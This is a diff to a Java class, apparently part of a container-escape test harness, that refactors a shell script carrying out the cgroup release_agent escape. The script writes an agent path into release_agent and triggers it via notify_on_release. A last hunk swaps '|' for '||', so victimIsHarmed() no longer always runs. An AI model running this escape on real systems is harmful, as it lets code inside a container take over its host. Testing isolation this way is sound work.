@@ -23,17 +23,6 @@ final class GroupAttack {
   private static final String MAKE_GROUPS =
       "mkdir $(echo /sys/fs/cgroup /sys/fs/cgroup/* | sed 's: :/%1$s :g')/%1$s".formatted(CANARY);
 
-  private static final String NAME_AN_AGENT =
-      """
-      for h in /sys/fs/cgroup/*; do
-        [ -f $h/release_agent ] && mkdir $h/%1$s || continue
-        echo %2$s > $h/release_agent &&
-          echo 1 > $h/%1$s/notify_on_release &&
-          sh -c "echo \\$\\$ > $h/%1$s/cgroup.procs" &&
-          echo %3$s && break
-      done
-      """;
-
   private GroupAttack() {}
 
   static Attack attack() {
@@ -54,7 +43,20 @@ final class GroupAttack {
   }
 
   private static String script(Scene scene) {
-    return isAgentNamed() ? NAME_AN_AGENT.formatted(CANARY, agent(scene), ARMED) : MAKE_GROUPS;
+    return isAgentNamed() ? namingAnAgent(agent(scene)) : MAKE_GROUPS;
+  }
+
+  private static String namingAnAgent(Path agent) {
+    return """
+    for h in /sys/fs/cgroup/*; do
+      [ -f $h/release_agent ] && mkdir $h/%1$s || continue
+      echo %2$s > $h/release_agent &&
+        echo 1 > $h/%1$s/notify_on_release &&
+        sh -c "echo \\$\\$ > $h/%1$s/cgroup.procs" &&
+        echo %3$s && break
+    done
+    """
+        .formatted(CANARY, agent, ARMED);
   }
 
   private static boolean isAgentNamed() {
@@ -82,7 +84,8 @@ final class GroupAttack {
         scene.write(place.resolve(AGENT), "\n");
       }
     }
-    return removeGroups() > 0 | scene.victimIsHarmed(); // both are done
+    boolean isMade = removeGroups() > 0;
+    return isMade || scene.victimIsHarmed();
   }
 
   private static long removeGroups() {
